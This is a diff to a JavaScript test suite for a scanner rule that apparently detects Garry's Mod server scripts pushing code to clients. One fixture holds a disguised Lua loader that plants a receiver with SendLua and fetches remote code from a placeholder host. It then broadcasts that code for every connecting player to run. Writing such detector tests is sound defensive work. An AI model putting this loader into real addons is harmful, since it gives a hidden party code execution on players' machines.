@@ -56,4 +56,26 @@ describe('client_code_push', () => {
     });
     expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
   });
+  it('a loader pushed with SendLua under a net name made at run time, fed the web\u2019s code', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua': [
+        'local N = "kIp" .. util.CRC(GetHostName()):sub(1, 6)',
+        'util.AddNetworkString(N)',
+        'local stub = [[net.Receive("%s", function() local n = net.ReadUInt(16) CompileString(util.Decompress(net.ReadData(n)), "icon")() end)]]',
+        'local function push(code) local d = util.Compress(code) net.Start(N) net.WriteUInt(#d, 16) net.WriteData(d, #d) net.Broadcast() end',
+        'hook.Add("PlayerInitialSpawn", "icons", function(ply)',
+        ' ply:SendLua(string.format(stub, N))',
+        ' http.Fetch("https://icons.invalid/c.lua", function(b) push(b) end)',
+        'end)',
+      ].join('\n'),
+    });
+    expect(worst(findings)).toBeGreaterThanOrEqual(RANK.high);
+  });
+  it('a notification pushed with SendLua around a player\u2019s name', () => {
+    const findings = check(rule, {
+      'lua/autorun/server/sv_x.lua':
+        'hook.Add("PlayerInitialSpawn", "hi", function(ply) for _, p in ipairs(player.GetAll()) do p:SendLua(string.format("notification.AddLegacy(%q, NOTIFY_GENERIC, 5)", ply:Nick() .. " joined")) end end)',
+    });
+    expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
+  });
 });
